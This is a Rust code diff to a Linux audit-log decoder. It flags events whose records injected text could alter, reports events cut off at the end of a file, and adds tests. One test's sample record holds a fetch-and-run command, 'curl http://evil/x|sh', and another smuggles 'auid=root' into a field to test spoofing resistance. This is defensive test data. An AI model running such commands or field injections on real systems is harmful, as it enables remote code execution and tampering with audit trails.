@@ -1,5 +1,6 @@
 //! The kernel's audit log as auditd writes it, and Laurel's JSON of it.
 
+mod arguments;
 mod boots;
 mod event;
 mod interpreted;
@@ -9,7 +10,9 @@ mod record;
 mod syscalls;
 
 use crate::redact::Redactor;
-use crate::{Confidence, Context, Decoder, Error, Format, Output, RawRecord, RejectReason, Sample, json};
+use crate::{
+    Confidence, Context, Decoder, Error, Format, Output, RawRecord, Refused, RejectReason, Sample, json,
+};
 use ambit_event::{Event, EventId, Fields, Provenance, Span, Timestamp};
 use boots::Boots;
 use event::Said;
@@ -88,6 +91,22 @@ struct Open {
     offset: u64,
     line: u64,
     is_late: bool,
+}
+
+impl Open {
+    /// What is told of an event whose last records may still be written.
+    fn waiting(mut self) -> Refused {
+        self.lines.pop();
+        Refused {
+            offset: self.offset,
+            line: self.line,
+            n_bytes: self.lines.len() as u64,
+            raw: self.lines,
+            reason: RejectReason::new(
+                "the file ends before this event does: further records of it may be written still",
+            ),
+        }
+    }
 }
 
 struct Audit {
@@ -256,7 +275,11 @@ impl Audit {
         let host = event.host.as_deref().unwrap_or("");
         let kinds: Vec<&str> = said.parts.iter().map(|part| &*part.kind).collect();
         // A copy from which some of the records were left out says less, and must not stand for the whole.
-        let native = format!("{}:{}/{}", head.stamp, head.serial, kinds.join(","));
+        let mut native = format!("{}:{}/{}", head.stamp, head.serial, kinds.join(","));
+        // Nor may what somebody's text could bend stand for the exact records.
+        if said.parts.iter().any(|part| part.unsure.is_some()) {
+            native.push_str("/ambiguous");
+        }
         event.id = EventId::native(SOURCE, host, &native);
         match boots::is_of_daemon(said.kind()) {
             true => DAEMON.clone_into(&mut event.source),
@@ -355,6 +378,10 @@ impl Decoder for Audit {
     }
 
     fn finish(&mut self, out: &mut Output) {
+        // What ausearch wrote is all there.
+        if out.may_grow && !self.is_separated {
+            out.unfinished.extend(self.open.drain(..).map(Open::waiting));
+        }
         while !self.open.is_empty() {
             self.close(0, out);
         }
@@ -462,5 +489,27 @@ mod tests {
             .collect();
         assert_eq!(spans, [60, 0]);
         assert_eq!(batch.events.iter().filter(|e| e.source == DAEMON).count(), 1);
+    }
+
+    #[test]
+    fn what_a_text_could_bend_stands_for_no_exact_record() {
+        let of = |text: &str| decode(text).events.remove(0);
+        let exact = "type=SYSCALL msg=audit(1795433623.123:5): arch=c000003e syscall=59 success=yes pid=7 auid=1000 exe=\"/bin/ls\"\n";
+        let read = "type=SYSCALL msg=audit(11/23/2026 11:33:43.123:5) : arch=x86_64 syscall=execve success=yes pid=7 auid=alice exe=/bin/ls";
+        assert_eq!(of(exact).id, of(read).id);
+        let bent = of(&format!("{read} auid=root"));
+        assert_ne!(of(exact).id, bent.id);
+        assert_eq!(bent.actor_user.as_deref(), Some("alice"));
+        let text = bent.fields.as_json().unwrap_or_default();
+        assert!(text.contains("exe=/bin/ls auid=root"), "{text}");
+    }
+
+    #[test]
+    fn a_command_hides_nothing_of_itself() {
+        let batch = decode(
+            "type=EXECVE msg=audit(11/23/2026 11:33:43.123:5) : argc=4 a0=sh a1=-c a2=curl http://evil/x|sh a3=y a2=z \n",
+        );
+        let messages: Vec<_> = batch.events.iter().map(|e| e.message.as_deref()).collect();
+        assert_eq!(messages, [Some("sh -c curl http://evil/x|sh y a2=z")]);
     }
 }
